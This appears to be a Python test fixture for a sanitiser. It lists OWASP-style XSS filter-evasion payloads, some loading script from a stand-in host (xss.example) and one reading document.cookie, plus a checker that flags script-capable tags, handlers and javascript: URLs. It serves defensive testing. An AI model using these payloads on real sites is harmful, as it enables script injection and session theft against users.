"""Payloads from the OWASP XSS filter evasion cheat sheet, and a check of rendered markup."""

from html.parser import HTMLParser

XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=http://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg><script>alert(1)</script></svg>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "[click me](javascript:alert('XSS'))",
    "[click me](JaVaScRiPt:alert('XSS'))",
    "<javascript:alert('XSS')>",
    "![x](javascript:alert('XSS'))",
    "<details open ontoggle=alert(1)>",
    '"><img src=x onerror=alert(1)>',
]


class _TagCollector(HTMLParser):
    """Collects every start tag as written, and the elements and attributes it holds."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.elements = []
        self.attributes = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(self.get_starttag_text() or "")
        self.elements.append(tag)
        self.attributes.extend(attrs)

    handle_startendtag = handle_starttag


def markup_problems(html):
    """What in `html` could run script: script/iframe/etc. elements, on* handlers,
    javascript: URLs. Escaped text (&lt;script&gt;) is harmless and not reported."""
    collector = _TagCollector()
    collector.feed(html)
    problems = []
    markup = "\n".join(collector.tags).lower()
    for needle in ("<script", "onerror=", "javascript:", "onload", "onmouseover", "ontoggle"):
        if needle in markup:
            problems.append(needle)
    for element in collector.elements:
        if element in {"script", "iframe", "img", "svg", "style", "body", "object", "embed"}:
            problems.append(f"element {element}")
    for name, value in collector.attributes:
        if name.startswith("on") or name == "style":
            problems.append(f"attribute {name}")
        cleaned = "".join(ch for ch in (value or "") if ch.isprintable() and not ch.isspace())
        if cleaned.lower().startswith(("javascript:", "vbscript:", "data:")):
            problems.append(f"url {value}")
    return problems
